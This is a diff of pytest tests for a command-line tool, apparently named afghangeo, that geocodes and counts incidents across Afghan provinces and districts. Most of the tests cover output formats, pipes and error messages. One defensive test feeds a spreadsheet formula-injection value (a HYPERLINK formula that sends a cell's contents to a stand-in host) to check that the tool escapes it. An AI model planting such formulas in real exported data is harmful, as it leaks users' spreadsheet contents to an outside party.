@@ -83,11 +83,10 @@ def test_python_dash_m() -> None:
 def test_count_the_example_incidents(capsys: pytest.CaptureFixture[str]) -> None:
     example = Path(__file__).resolve().parents[1] / "examples" / "incidents.csv"
     assert main(["count", str(example), "--weight", "killed"]) == 0
-    out = capsys.readouterr().out
-    lines = [line.split() for line in out.splitlines()[1:]]
-    assert len(lines) == 35  # 34 provinces and 'unlocated'
-    counts = {row[0]: row for row in lines}
-    assert "Helmand" in counts and "Badghis" in counts and "unlocated" in counts
+    table = pd.read_csv(io.StringIO(capsys.readouterr().out))  # CSV when not a terminal
+    assert len(table) == 35  # 34 provinces and 'unlocated'
+    assert list(table.columns) == ["province", "iso_3166_2", "count", "killed", "killed_missing"]
+    assert {"Helmand", "Badghis", "unlocated"} <= set(table["province"])
 
 
 def test_count_a_missing_file_is_one_clear_line(capsys: pytest.CaptureFixture[str]) -> None:
@@ -102,7 +101,7 @@ def test_count_a_missing_file_is_one_clear_line(capsys: pytest.CaptureFixture[st
 def test_geocode_a_list_of_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     names = tmp_path / "names.txt"
     names.write_text("Kabul\n\nNawa\n# a comment\nDoha\nLashkar Gah\n", encoding="utf-8")
-    assert main(["geocode", str(names)]) == 0
+    assert main(["geocode", str(names), "--format", "table"]) == 0
     captured = capsys.readouterr()
     lines = captured.out.splitlines()
     assert len(lines) == 5
@@ -169,9 +168,9 @@ def test_geocode_a_table_with_column_and_province(
     [
         (["geocode", "no-such-file.csv"], "No such file"),
         (["geocode", "no-such-names.txt"], "no-such-names.txt"),
-        (["geocode", str(EXAMPLE), "--column", "nope"], "No column 'nope'"),
+        (["geocode", str(EXAMPLE), "--column", "nope"], "maps 'place' to 'nope'"),
         (["geocode", str(EXAMPLE), "--province", "Atlantis"], "Unknown province"),
-        (["geocode", "-", "--column", "place"], "--column is for tables"),
+        (["geocode", "-", "--column", "place"], "--column/--columns are for tables"),
     ],
 )
 def test_geocode_user_errors_are_one_line(
@@ -324,3 +323,112 @@ def test_extract_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> N
     empty.write_text("Nothing happened here.", encoding="utf-8")
     assert main(["extract", str(empty), "--published", "2020-01-01"]) == 1
     assert main(["extract", str(empty), "--published", "someday"]) == 2
+
+
+# --- pipes and formats (#15 item 5) --------------------------------------------------------
+
+
+def _run(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "afghangeo", *args],
+        input=stdin, capture_output=True, text=True, check=False, timeout=120,
+    )  # fmt: skip
+
+
+def test_csv_flows_from_one_command_into_the_next(tmp_path: Path) -> None:
+    geocoded = _run("geocode", str(EXAMPLE))
+    assert geocoded.returncode == 0, geocoded.stderr
+    assert geocoded.stdout.startswith("date_input,")  # CSV, not a display table
+    counted = _run("count", "-", "--level", "district", stdin=geocoded.stdout)
+    assert counted.returncode == 0, counted.stderr
+    table = pd.read_csv(io.StringIO(counted.stdout))
+    assert len(table) == 398 + 34 + 1
+    assert table["count"].sum() == len(pd.read_csv(EXAMPLE))
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".json", ".geojson", ".gpkg", ".parquet", ".xlsx"])
+def test_output_format_follows_the_extension(tmp_path: Path, suffix: str) -> None:
+    out = tmp_path / f"geocoded{suffix}"
+    assert main(["geocode", str(EXAMPLE), "-o", str(out)]) == 0
+    if suffix in (".geojson", ".gpkg"):
+        import geopandas
+
+        back = geopandas.read_file(out)
+        assert back.geometry.notna().any()
+    elif suffix == ".json":
+        back = pd.read_json(out)
+    elif suffix == ".parquet":
+        back = pd.read_parquet(out)
+    elif suffix == ".xlsx":
+        back = pd.read_excel(out)
+    else:
+        back = pd.read_csv(out)
+    assert len(back) == len(pd.read_csv(EXAMPLE))
+
+
+def test_an_unknown_output_extension_is_an_error(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    assert main(["count", str(EXAMPLE), "-o", str(tmp_path / "counts.docx")]) == 2
+    _one_error_line(capsys.readouterr().err)
+    assert not (tmp_path / "counts.docx").exists()
+
+
+def test_dash_o_dash_is_standard_output(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["count", str(EXAMPLE), "-o", "-", "--format", "json"]) == 0
+    out = capsys.readouterr().out
+    assert out.lstrip().startswith("[") and not (Path.cwd() / "-").exists()
+
+
+def test_a_closed_pipe_ends_quietly() -> None:
+    shell = f"{sys.executable} -m afghangeo districts | head -n 2"
+    done = subprocess.run(
+        ["bash", "-c", f"set -o pipefail; {shell}"],
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=120,
+    )
+    assert done.stdout.count("\n") == 2
+    assert "Broken pipe" not in done.stderr and "Traceback" not in done.stderr
+
+
+def test_formula_cells_are_neutralised_unless_raw(tmp_path: Path) -> None:
+    names = tmp_path / "names.txt"
+    names.write_text('=HYPERLINK("http://x/?"&A1,"click")\nKabul\n-5\n', encoding="utf-8")
+    safe = _run("geocode", str(names))
+    assert "'=HYPERLINK" in safe.stdout and "\n=HYPERLINK" not in safe.stdout
+    raw = _run("geocode", str(names), "--raw")
+    assert '"=HYPERLINK' in raw.stdout or "\n=HYPERLINK" in raw.stdout
+
+
+def test_columns_option_maps_roles(tmp_path: Path) -> None:
+    table = tmp_path / "t.csv"
+    table.write_text("qaryah,wilayat_name\nLashkar Gah,Helmand\nBabaji,Helmand\n", encoding="utf-8")
+    done = _run("count", str(table), "--columns", "place=qaryah", "province=wilayat_name")
+    assert done.returncode == 0, done.stderr
+    counts = pd.read_csv(io.StringIO(done.stdout)).set_index("province")
+    assert counts.loc["Helmand", "count"] == 2
+
+
+def test_did_you_mean_for_commands_and_roles(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as info:
+        main(["cuont", "x.csv"])
+    assert info.value.code == 2
+    err = capsys.readouterr().err
+    assert "did you mean 'count'?" in err and err.count("\n") == 1
+    assert main(["count", str(EXAMPLE), "--columns", "plcae=location"]) == 2
+    assert "Did you mean 'place'?" in capsys.readouterr().err
+
+
+def test_usage_errors_are_one_line(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as info:
+        main(["locate", "--lon", "abc", "--lat", "1"])
+    assert info.value.code == 2
+    _one_error_line(capsys.readouterr().err)
+
+
+def test_locate_takes_lon_and_lat_by_name(capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["locate", "--lat", "31.5938", "--lon", "64.3716", "--format", "csv"]) == 0
+    table = pd.read_csv(io.StringIO(capsys.readouterr().out))
+    assert table[["province", "district"]].iloc[0].tolist() == ["Helmand", "Lashkar Gah"]
